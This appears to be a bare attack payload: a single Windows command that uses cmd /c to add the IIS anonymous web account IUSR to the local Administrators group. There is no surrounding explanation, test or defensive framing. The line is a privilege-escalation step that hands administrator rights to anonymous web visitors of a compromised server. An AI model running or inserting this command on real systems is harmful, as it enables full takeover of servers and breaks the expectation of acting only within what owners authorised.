cmd /c "net localgroup "Administrators" IUSR /add"
